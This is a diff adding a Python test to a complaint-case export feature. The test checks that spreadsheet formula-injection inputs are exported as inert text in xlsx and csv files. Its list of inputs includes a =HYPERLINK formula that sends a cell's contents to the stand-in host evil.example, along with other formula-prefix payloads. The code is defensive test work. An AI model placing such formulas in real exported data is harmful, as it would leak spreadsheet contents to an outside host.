@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import csv
+import io
 from pathlib import Path
 
 import pytest
@@ -71,3 +72,28 @@ def test_an_export_of_another_units_cases_is_empty(ctx: ServiceContext, tmp_path
     with Session(ctx.engine) as session:
         flt = scope_for(session, other)
     assert export_cases(ctx, flt, tmp_path / "other.csv", viewer=other) == 0
+
+
+TRAPS = ["=HYPERLINK(\"http://evil.example/?\"&A2,\"点击\")", "+1+1", "-1+1", "@SUM(A1)", "＝1+1",
+         " =1+1"]
+
+
+@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
+def test_typed_formulas_are_written_as_text_beside_the_complainant(
+        ctx: ServiceContext, tmp_path: Path, suffix: str) -> None:
+    service = CaseService(ctx)
+    for i, trap in enumerate(TRAPS):  # a number of its own: not a repeat of another (matter_key)
+        service.register(complaint(title=f"{trap}拖欠工程款{i}", summary=trap, complainant_name="王五",
+                                   subject_name=trap), actor=CLERK)
+    path = tmp_path / f"office{suffix}"
+    assert export_cases(ctx, CaseFilter(limit=1000), path, viewer=DISPATCHER) == 2 + len(TRAPS)
+    if suffix == ".xlsx":
+        cells = [c for row in load_workbook(path).worksheets[0].iter_rows() for c in row]
+        assert [c.coordinate for c in cells if c.data_type == "f"] == []
+        texts = [c.value for c in cells if isinstance(c.value, str)]
+        assert all(f"{trap}拖欠工程款{i}" in texts and trap in texts for i, trap in enumerate(TRAPS))
+    else:
+        raw = path.read_bytes().decode("utf-8-sig")
+        cells = [c for row in csv.reader(io.StringIO(raw, newline="")) for c in row]
+        assert all(f"'{trap}拖欠工程款{i}" in cells and f"'{trap}" in cells for i, trap in enumerate(TRAPS))
+        assert not [c for c in cells if c[:1] in "=+-@＝＋－＠\t\r" and c]
